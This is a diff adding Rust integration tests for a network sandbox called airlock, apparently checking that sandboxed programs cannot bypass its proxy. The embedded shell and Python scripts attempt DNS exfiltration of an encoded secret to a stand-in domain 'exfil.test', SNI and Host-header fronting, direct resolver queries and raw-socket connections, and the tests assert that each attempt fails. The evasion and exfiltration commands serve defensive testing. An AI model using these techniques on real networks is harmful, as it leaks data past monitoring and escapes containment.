@@ -1333,3 +1333,482 @@ fn host_address_needs_a_cidr_rule() {
     );
     assert!(!net.log().contains("e3-other-port"), "{}", net.log());
 }
+
+// ----------------------------------------------------------------------
+// Transparent mode: programs that ignore the proxy variables.
+
+/// The shell preamble that removes every proxy setting airlock made.
+const NO_PROXY_ENV: &str = "unset HTTP_PROXY http_proxy HTTPS_PROXY https_proxy ALL_PROXY all_proxy NO_PROXY no_proxy npm_config_proxy npm_config_https_proxy PIP_PROXY CARGO_HTTP_PROXY GIT_CONFIG_COUNT GIT_CONFIG_KEY_0 GIT_CONFIG_VALUE_0\n";
+
+/// Without any proxy variable, an allowed name works over HTTP and HTTPS
+/// (curl, Python's urllib with proxies off): the sandbox's DNS stub
+/// answers it from the pool and the agent tunnels the connection by name
+/// through the host's proxy, which checks and audits it as any other. A
+/// name that is not allowed does not resolve, at once; a connection to
+/// the allowed name's address that claims another name in its SNI or Host
+/// header is refused by the proxy.
+#[test]
+fn transparent_mode_without_proxy_variables() {
+    let Some(net) = Inet::new() else { return };
+    let certs = format!("{}:/certs:ro", net.certs().display());
+    for who in [Who::Root, Who::User] {
+        let script = format!(
+            r#"{NO_PROXY_ENV}
+set -u
+env | grep -i proxy || echo "no proxy variables"
+cat /etc/resolv.conf
+curl -sS -m 10 --noproxy '*' http://www.allowed.test/t-curl
+curl -sS -m 10 --noproxy '*' --cacert /certs/ca.pem https://www.allowed.test/t-curl-tls
+/usr/bin/python3 - <<'PYEOF'
+import socket, ssl, urllib.request
+o = urllib.request.build_opener(urllib.request.ProxyHandler({{}}))
+print(o.open("http://www.allowed.test/t-py", timeout=10).read().decode(), end="")
+ctx = ssl.create_default_context(cafile="/certs/ca.pem")
+o = urllib.request.build_opener(urllib.request.ProxyHandler({{}}), urllib.request.HTTPSHandler(context=ctx))
+print(o.open("https://www.allowed.test/t-py-tls", timeout=10).read().decode(), end="")
+print("addr", socket.gethostbyname("www.allowed.test"))
+PYEOF
+start=$(date +%s%N)
+curl -sS -m 10 --noproxy '*' http://other.test/denied 2>&1; echo "curl-denied=$?"
+end=$(date +%s%N)
+echo "denied-ms=$(( (end - start) / 1000000 ))"
+getent hosts other.test; echo "getent-other=$?"
+# The allowed name's address, another name in SNI / Host: the proxy says no.
+a=$(getent ahostsv4 www.allowed.test | head -n1 | cut -d' ' -f1)
+echo "pool-addr=$a"
+curl -sS -m 10 --noproxy '*' --cacert /certs/ca.pem --resolve other.test:443:$a https://other.test/sni-fronted 2>&1; echo "sni-other=$?"
+curl -sS -m 10 --noproxy '*' -H 'Host: other.test' http://$a/host-fronted 2>&1; echo "host-other=$?"
+"#
+        );
+        let Some((o, _)) = net.airlock(
+            who,
+            &[
+                "run",
+                "--verbose",
+                "--allow-host",
+                "www.allowed.test",
+                "--dns-override",
+                &format!("www.allowed.test={WWW}"),
+                "--dns-override",
+                &format!("other.test={OTHER}"),
+                "--mount",
+                &certs,
+                "--",
+                "sh",
+                "-c",
+                &script,
+            ],
+        ) else {
+            continue;
+        };
+        assert_eq!(o.code, 0, "{who:?}: {o:?}");
+        let s = &o.stdout;
+        assert!(s.contains("no proxy variables"), "{o:?}");
+        assert!(s.contains("nameserver 127.0.0.1"), "{o:?}");
+        for want in [
+            "hello from www path=/t-curl\n",
+            "hello from www-tls path=/t-curl-tls\n",
+            "hello from www path=/t-py\n",
+            "hello from www-tls path=/t-py-tls\n",
+            "addr 198.18.0.1\n",
+            "pool-addr=198.18.0.1\n",
+        ] {
+            assert!(s.contains(want), "{who:?}: {want:?} missing: {o:?}");
+        }
+        assert!(s.contains("Could not resolve host: other.test"), "{o:?}");
+        assert!(s.contains("curl-denied=6"), "{o:?}");
+        assert!(s.contains("getent-other=2"), "{o:?}");
+        let ms: u64 = s
+            .split("denied-ms=")
+            .nth(1)
+            .and_then(|r| r.split_whitespace().next())
+            .and_then(|n| n.parse().ok())
+            .unwrap();
+        assert!(ms < 2000, "a denied name took {ms} ms to fail: {o:?}");
+        assert!(!s.contains("sni-fronted\n"), "{o:?}");
+        assert!(!s.contains("sni-other=0"), "{o:?}");
+        assert!(!s.contains("host-fronted\n"), "{o:?}");
+        assert!(!s.contains("host-other=0"), "{o:?}");
+        // The host's proxy decided each, as for a proxy-aware client.
+        assert!(
+            o.stderr.contains("allowed www.allowed.test:443 x2"),
+            "{o:?}"
+        );
+        assert!(o.stderr.contains("allowed www.allowed.test:80 x2"), "{o:?}");
+        assert!(o.stderr.contains("denied  www.allowed.test:"), "{o:?}");
+    }
+    let log = net.log();
+    assert!(!log.contains("other"), "a denied host was reached: {log}");
+    assert!(
+        !log.contains("dns packet"),
+        "something asked a resolver: {log}"
+    );
+    assert!(
+        log.contains("www GET /t-curl host=www.allowed.test"),
+        "{log}"
+    );
+    assert!(
+        log.contains("www-tls GET /t-py-tls host=www.allowed.test"),
+        "{log}"
+    );
+}
+
+/// DNS exfiltration in transparent mode: queries for names that are not
+/// allowed (A, AAAA, TXT, data in long labels, through glibc, dig and raw
+/// UDP) are answered NXDOMAIN inside and never reach a resolver; the
+/// outside resolver cannot be asked directly (UDP or TCP); raw
+/// connections to a server's real address, to a pool address never handed
+/// out, and to an allowed name's address on a port not caught all fail.
+#[test]
+fn transparent_mode_dns_exfiltration_and_raw_paths_go_nowhere() {
+    let Some(net) = Inet::new() else { return };
+    if !Path::new("/usr/bin/dig").exists() {
+        common::skip("/usr/bin/dig is missing (run scripts/setup.sh)");
+        return;
+    }
+    for who in [Who::Root, Who::User] {
+        let script = format!(
+            r#"{NO_PROXY_ENV}
+set -u
+secret=c2VjcmV0LWRhdGEtZXhmaWx0cmF0ZWQtdGhyb3VnaC1kbnMtbGFiZWxz
+for t in A AAAA TXT MX ANY; do
+  echo "stub-$t: $(dig +time=2 +tries=1 @127.0.0.1 $t $secret.exfil.test | grep -o 'status: [A-Z]*')"
+done
+echo "stub-long: $(dig +time=2 +tries=1 @127.0.0.1 TXT $secret.$secret.$secret.exfil.test | grep -o 'status: [A-Z]*')"
+echo "stub-allowed-AAAA: $(dig +time=2 +tries=1 @127.0.0.1 AAAA www.allowed.test | grep -o 'status: [A-Z]*') answers=$(dig +short @127.0.0.1 AAAA www.allowed.test | wc -l)"
+echo "stub-allowed-A: $(dig +short +time=2 +tries=1 @127.0.0.1 A www.allowed.test)"
+getent hosts $secret.exfil.test; echo "getent=$?"
+dig +time=2 +tries=1 @{DNS} TXT $secret.direct.test >/dev/null 2>&1; echo "dig-direct=$?"
+dig +tcp +time=2 +tries=1 @{DNS} TXT $secret.direct-tcp.test >/dev/null 2>&1; echo "dig-direct-tcp=$?"
+/usr/bin/python3 - <<'PYEOF'
+import socket, struct
+def q(name, qtype):
+    h = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
+    b = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
+    return h + b + struct.pack(">HH", qtype, 1)
+def rcode(name, qtype):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(3)
+    s.sendto(q(name, qtype), ("127.0.0.1", 53))
+    d = s.recv(1500)
+    return d[3] & 15, struct.unpack(">H", d[6:8])[0]
+label = "a" * 63
+print("raw-txt", rcode(f"{{label}}.{{label}}.exfil.test", 16))
+print("raw-a", rcode("pwd-root-x-0-0.exfil.test", 1))
+print("raw-ip-literal", rcode("93.184.216.53", 1))
+for what, typ, addr in [
+    ("udp-resolver", socket.SOCK_DGRAM, ("{DNS}", 53)),
+    ("tcp-server-ip", socket.SOCK_STREAM, ("{WWW}", 80)),
+    ("tcp-pool-unused", socket.SOCK_STREAM, ("198.18.3.7", 443)),
+    ("tcp-pool-other-port", socket.SOCK_STREAM, ("198.18.0.1", 8000)),
+]:
+    s = socket.socket(socket.AF_INET, typ)
+    s.settimeout(3)
+    try:
+        if typ == socket.SOCK_DGRAM:
+            s.sendto(q("udp.exfil.test", 16), addr)
+            s.recv(100)
+        else:
+            s.connect(addr)
+        print(what, "open")
+    except OSError as e:
+        print(what, "errno", e.errno)
+try:
+    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+    print("icmp socket open")
+except OSError as e:
+    print("icmp errno", e.errno)
+PYEOF
+"#
+        );
+        let Some((o, _)) = net.airlock(
+            who,
+            &[
+                "run",
+                "--allow-host",
+                "www.allowed.test",
+                "--dns-override",
+                &format!("www.allowed.test={WWW}"),
+                "--",
+                "sh",
+                "-c",
+                &script,
+            ],
+        ) else {
+            continue;
+        };
+        assert_eq!(o.code, 0, "{who:?}: {o:?}");
+        let s = &o.stdout;
+        for t in ["A", "AAAA", "TXT", "MX", "ANY"] {
+            assert!(
+                s.contains(&format!("stub-{t}: status: NXDOMAIN")),
+                "{who:?} {t}: {o:?}"
+            );
+        }
+        assert!(s.contains("stub-long: status: NXDOMAIN"), "{o:?}");
+        assert!(
+            s.contains("stub-allowed-AAAA: status: NOERROR answers=0"),
+            "{o:?}"
+        );
+        assert!(s.contains("stub-allowed-A: 198.18.0.1"), "{o:?}");
+        assert!(s.contains("getent=2"), "{o:?}");
+        // dig: 9 when no server answers (or the network is unreachable).
+        assert!(!s.contains("dig-direct=0"), "{o:?}");
+        assert!(!s.contains("dig-direct-tcp=0"), "{o:?}");
+        assert!(s.contains("raw-txt (3, 0)"), "{o:?}");
+        assert!(s.contains("raw-a (3, 0)"), "{o:?}");
+        assert!(s.contains("raw-ip-literal (3, 0)"), "{o:?}");
+        // ENETUNREACH: no route but lo's.
+        assert!(s.contains("udp-resolver errno 101"), "{o:?}");
+        assert!(s.contains("tcp-server-ip errno 101"), "{o:?}");
+        // ECONNREFUSED: local, nothing listens.
+        assert!(s.contains("tcp-pool-unused errno 111"), "{o:?}");
+        assert!(s.contains("tcp-pool-other-port errno 111"), "{o:?}");
+        assert!(!s.contains("icmp socket open"), "{o:?}");
+    }
+    let log = net.log();
+    assert!(
+        !log.contains("dns packet"),
+        "a query reached the outside resolver: {log}"
+    );
+    assert!(!log.contains("exfil"), "{log}");
+    assert!(!log.contains("GET"), "a server was reached: {log}");
+    // Airlock changed the sandbox's namespace only: where it ran (the
+    // test's "host" namespace) has neither the pool's route nor a lower
+    // privileged-port bound.
+    let out = |args: &[&str]| {
+        let o = Command::new("ip").args(args).output().unwrap();
+        String::from_utf8_lossy(&o.stdout).into_owned()
+    };
+    let bound = out(&[
+        "netns",
+        "exec",
+        &net.ns,
+        "cat",
+        "/proc/sys/net/ipv4/ip_unprivileged_port_start",
+    ]);
+    assert_eq!(bound.trim(), "1024");
+    let local = out(&["-n", &net.ns, "route", "show", "table", "local"]);
+    assert!(!local.contains("198.18"), "{local}");
+    assert!(!out(&["route", "show", "table", "local"]).contains("198.18"));
+}
+
+/// `--net all`: the stub answers every name but the denied ones, each
+/// with an address of its own that stays the same; it stops handing out
+/// addresses after 256 names (SERVFAIL), and still asks no resolver.
+#[test]
+fn transparent_mode_net_all_denials_stability_and_cap() {
+    let Some(net) = Inet::new() else { return };
+    for who in [Who::Root, Who::User] {
+        let script = r#"
+/usr/bin/python3 - <<'PYEOF'
+import socket, struct
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.settimeout(3)
+def ask(name, qtype=1):
+    h = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0)
+    b = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
+    s.sendto(h + b + struct.pack(">HH", qtype, 1), ("127.0.0.1", 53))
+    d = s.recv(1500)
+    rc, an = d[3] & 15, struct.unpack(">H", d[6:8])[0]
+    return rc, (socket.inet_ntoa(d[-4:]) if an else None)
+print("denied", ask("x.exfil.test"))
+print("denied-apex", ask("exfil.test"))
+addrs = [ask(f"n{i}.ok.test") for i in range(300)]
+ok = [a for rc, a in addrs if rc == 0]
+print("ok", len(ok), "distinct", len(set(ok)), "servfail", sum(1 for rc, _ in addrs if rc == 2))
+print("first", addrs[0][1], "again", ask("n0.ok.test")[1], "last-ok", ok[-1])
+PYEOF
+"#;
+        let Some((o, _)) = net.airlock(
+            who,
+            &[
+                "run",
+                "--net",
+                "all",
+                "--deny-host",
+                "*.exfil.test",
+                "--deny-host",
+                "exfil.test",
+                "--",
+                "sh",
+                "-c",
+                script,
+            ],
+        ) else {
+            continue;
+        };
+        assert_eq!(o.code, 0, "{who:?}: {o:?}");
+        let s = &o.stdout;
+        assert!(s.contains("denied (3, None)"), "{o:?}");
+        assert!(s.contains("denied-apex (3, None)"), "{o:?}");
+        assert!(s.contains("ok 256 distinct 256 servfail 44"), "{o:?}");
+        assert!(
+            s.contains("first 198.18.0.1 again 198.18.0.1 last-ok 198.18.1.0"),
+            "{o:?}"
+        );
+    }
+    let log = net.log();
+    assert!(!log.contains("dns packet"), "{log}");
+}
+
+/// Transparent mode in the microVM tier: the guest (no NIC at all) runs
+/// the same agent as its /init, with the same stub and pool. Without proxy
+/// variables an allowed name works over HTTP and HTTPS; a name that is not
+/// allowed gets NXDOMAIN and its queries reach no resolver.
+#[test]
+fn transparent_mode_in_a_microvm() {
+    let Some(net) = Inet::new() else { return };
+    // No mounts in a microVM yet: the CA travels in the environment.
+    let ca = std::fs::read_to_string(net.certs().join("ca.pem")).unwrap();
+    let ca_env = format!("CA_PEM={ca}");
+    let script = format!(
+        r#"{NO_PROXY_ENV}
+set -u
+printf '%s' "$CA_PEM" >/tmp/ca.pem
+curl -sS -m 20 --noproxy '*' http://www.allowed.test/vm-curl
+curl -sS -m 20 --noproxy '*' --cacert /tmp/ca.pem https://www.allowed.test/vm-curl-tls
+getent hosts leak-from-the-guest.exfil.test; echo "getent=$?"
+echo "stub-TXT: $(dig +time=3 +tries=1 @127.0.0.1 TXT leak-txt-from-the-guest.exfil.test | grep -o 'status: [A-Z]*')"
+dig +time=2 +tries=1 @{DNS} TXT leak-direct-from-the-guest.test >/dev/null 2>&1; echo "dig-direct=$?"
+curl -sS -m 5 --noproxy '*' http://{WWW}/raw-ip 2>&1; echo "raw-ip=$?"
+"#
+    );
+    let Some((o, _)) = net.airlock(
+        Who::Root,
+        &[
+            "run",
+            "--isolation",
+            "microvm",
+            "--allow-host",
+            "www.allowed.test",
+            "--dns-override",
+            &format!("www.allowed.test={WWW}"),
+            "--env",
+            &ca_env,
+            "--",
+            "sh",
+            "-c",
+            &script,
+        ],
+    ) else {
+        return;
+    };
+    assert_eq!(o.code, 0, "{o:?}");
+    let s = &o.stdout;
+    assert!(s.contains("hello from www path=/vm-curl\n"), "{o:?}");
+    assert!(
+        s.contains("hello from www-tls path=/vm-curl-tls\n"),
+        "{o:?}"
+    );
+    assert!(s.contains("getent=2"), "{o:?}");
+    assert!(s.contains("stub-TXT: status: NXDOMAIN"), "{o:?}");
+    assert!(!s.contains("dig-direct=0"), "{o:?}");
+    assert!(!s.contains("raw-ip=0"), "{o:?}");
+    let log = net.log();
+    assert!(!log.contains("dns packet"), "{log}");
+    assert!(!log.contains("leak"), "{log}");
+    assert!(!log.contains("raw-ip"), "{log}");
+    assert!(
+        log.contains("www GET /vm-curl host=www.allowed.test"),
+        "{log}"
+    );
+}
+
+/// A process of the sandbox that holds a caught port on every address
+/// (bound to 0.0.0.0 first) cannot make the agent loop over the pool: the
+/// lookup fails at once (SERVFAIL after a few addresses), and works again
+/// once the port is free.
+#[test]
+fn transparent_mode_port_squatting_fails_fast() {
+    let Some(net) = Inet::new() else { return };
+    for who in [Who::Root, Who::User] {
+        let script = r#"
+/usr/bin/python3 - <<'PYEOF'
+import socket, time
+sq = socket.socket()
+sq.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+sq.bind(("0.0.0.0", 8443))
+sq.listen(1)
+t = time.monotonic()
+try:
+    print("squatted", socket.gethostbyname("www.allowed.test"))
+except OSError as e:
+    print("squatted-failed", type(e).__name__)
+print("squatted-ms", int((time.monotonic() - t) * 1000))
+sq.close()
+print("free", socket.gethostbyname("www.allowed.test"))
+PYEOF
+"#;
+        let Some((o, _)) = net.airlock(
+            who,
+            &[
+                "run",
+                "--allow-host",
+                "www.allowed.test:8443",
+                "--allow-host",
+                "www.allowed.test:443",
+                "--",
+                "sh",
+                "-c",
+                script,
+            ],
+        ) else {
+            continue;
+        };
+        assert_eq!(o.code, 0, "{who:?}: {o:?}");
+        let s = &o.stdout;
+        assert!(s.contains("squatted-failed"), "{o:?}");
+        let ms: u64 = s
+            .split("squatted-ms ")
+            .nth(1)
+            .and_then(|r| r.split_whitespace().next())
+            .and_then(|n| n.parse().ok())
+            .unwrap();
+        assert!(ms < 3000, "the lookup took {ms} ms: {o:?}");
+        // The addresses tried were not used up.
+        assert!(s.contains("free 198.18.0.1\n"), "{o:?}");
+    }
+}
+
+/// A wildcard rule in transparent mode: a name below it resolves (from
+/// the pool) and works over HTTPS without proxy variables; the apex does
+/// not resolve (`*.` does not match it).
+#[test]
+fn transparent_mode_wildcard_rule() {
+    let Some(net) = Inet::new() else { return };
+    let certs = format!("{}:/certs:ro", net.certs().display());
+    for who in [Who::Root, Who::User] {
+        let script = format!(
+            r#"{NO_PROXY_ENV}
+curl -sS -m 10 --noproxy '*' --cacert /certs/ca.pem https://a.wild.test/wild-tls
+getent hosts wild.test; echo "apex=$?"
+"#
+        );
+        let Some((o, _)) = net.airlock(
+            who,
+            &[
+                "run",
+                "--allow-host",
+                "*.wild.test",
+                "--dns-override",
+                &format!("a.wild.test={WWW}"),
+                "--mount",
+                &certs,
+                "--",
+                "sh",
+                "-c",
+                &script,
+            ],
+        ) else {
+            continue;
+        };
+        assert_eq!(o.code, 0, "{who:?}: {o:?}");
+        assert!(
+            o.stdout.contains("hello from www-tls path=/wild-tls\n"),
+            "{o:?}"
+        );
+        assert!(o.stdout.contains("apex=2"), "{o:?}");
+    }
+    assert!(!net.log().contains("dns packet"), "{}", net.log());
+}
